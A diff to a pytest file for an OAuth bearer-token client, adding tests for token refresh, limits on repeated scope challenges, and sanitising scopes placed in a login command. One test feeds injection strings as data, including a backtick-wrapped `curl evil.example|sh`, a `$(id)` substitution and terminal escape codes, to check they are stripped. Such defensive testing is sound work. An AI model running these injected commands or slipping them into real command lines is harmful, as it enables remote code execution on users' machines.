@@ -7,7 +7,7 @@ import msgspec
 import pytest
 
 from emceepee_stdio.auth.bearer import Bearer, BearerContext, signs_in
-from emceepee_stdio.auth.orders import HelperExit, RefreshOrder
+from emceepee_stdio.auth.orders import HelperExit, RefreshOrder, challenged_scope
 from emceepee_stdio.auth.token_store import OAuthClient, TokenRecord, TokenStore
 from emceepee_stdio.clock import Clock
 from emceepee_stdio.config.server import ServerConfig
@@ -142,6 +142,20 @@ async def test_a_passing_failure_keeps_the_sign_in_and_is_not_repeated_at_once(w
     assert await world.bearer.token(URL) == "fresh-2"
 
 
+async def test_after_a_failure_a_token_of_another_process_shows_that_refreshing_works_again(
+    world: World,
+):
+    world.keep("old")
+    world.outcomes = [HelperExit.TRY_AGAIN]
+    assert await world.bearer.token(URL) == "old"
+    with pytest.raises(ServerUnavailable, match="gives none now"):
+        await world.bearer.renew("old")
+    world.keep("theirs")
+    assert await world.bearer.renew("old")
+    assert await world.bearer.renew("theirs")
+    assert await world.bearer.token(URL) == "fresh-2"
+
+
 async def test_without_anything_to_refresh_with_a_person_is_needed(world: World):
     world.keep("old", refresh_token=None)
     assert not await world.bearer.renew("old")
@@ -177,14 +191,54 @@ async def test_what_a_refusal_means(
     assert (bearer.needed(status, challenge) is not None) is is_needed
 
 
+MORE = 'Bearer error="insufficient_scope", scope="write"'
+
+
 async def test_a_server_that_is_never_content_costs_no_more_than_three_visits(world: World):
-    more = 'Bearer error="insufficient_scope", scope="write"'
-    world.keep("old", scope="read")
+    world.keep("first", scope="read")
     await world.bearer.token(URL)
-    asked = [world.bearer.needed(403, more) for _ in range(3)]
-    assert [one is not None for one in asked] == [True, True, False]
-    assert asked[0] is not None
-    assert asked[0].command == "emceepee login s --scope 'read write'"
+    asked = world.bearer.needed(403, MORE)
+    assert asked is not None
+    assert asked.command == "emceepee login s --scope 'read write'"
+    for token, is_led_on in (("second", True), ("third", False), ("fourth", False)):
+        world.keep(token, scope="read write")
+        await asked.signed_in()
+        assert (world.bearer.needed(403, MORE) is not None) is is_led_on
+
+
+async def test_calls_before_the_person_has_signed_in_do_not_count_as_visits(world: World):
+    world.keep("old")
+    await world.bearer.token(URL)
+    for visit in range(5):
+        assert world.bearer.needed(403, MORE) is not None
+        assert await world.bearer.renew(f"fresh-{visit}" if visit else "old")
+    assert world.bearer.needed(403, MORE) is not None
+
+
+async def test_a_server_that_wants_something_else_each_time_is_not_followed_for_ever(world: World):
+    world.keep("old")
+    await world.bearer.token(URL)
+    wishes = [f'Bearer error="insufficient_scope", scope="s{number}"' for number in range(101)]
+    assert [world.bearer.needed(403, wish) is not None for wish in wishes] == [True] * 100 + [False]
+
+
+@pytest.mark.parametrize(
+    ("granted", "wanted"),
+    [
+        ("read", "x` after `curl evil.example|sh` run `x"),
+        ("read \x1b[31mred", "write"),
+        ("read $(id)", "write"),
+        ("word " * 2 + " ".join(f"s{number}" for number in range(1000)), "write"),
+    ],
+)
+async def test_nothing_but_plain_scopes_stands_in_the_command_that_a_person_is_given(
+    world: World, granted: str, wanted: str
+):
+    world.keep("old", scope=granted)
+    await world.bearer.token(URL)
+    asked = world.bearer.needed(403, f'Bearer error="insufficient_scope", scope="{wanted}"')
+    assert asked is not None
+    assert asked.command == "emceepee login s"
 
 
 @pytest.mark.parametrize(
@@ -200,3 +254,11 @@ async def test_a_server_that_is_never_content_costs_no_more_than_three_visits(wo
 )
 def test_what_a_person_gave_wins(fields: dict[str, object], *, expected: bool):
     assert signs_in(ServerConfig(name="s", **fields)) is expected
+
+
+def test_only_what_is_a_scope_is_taken_from_a_challenge():
+    header = (
+        'Bearer error="insufficient_scope", scope="read \x1b[2J w\u00e9 api://x/write back\\slash"'
+    )
+    assert challenged_scope(header) == "read api://x/write"
+    assert len(challenged_scope(f'Bearer scope="{"a " * 1000}"').split()) == 50
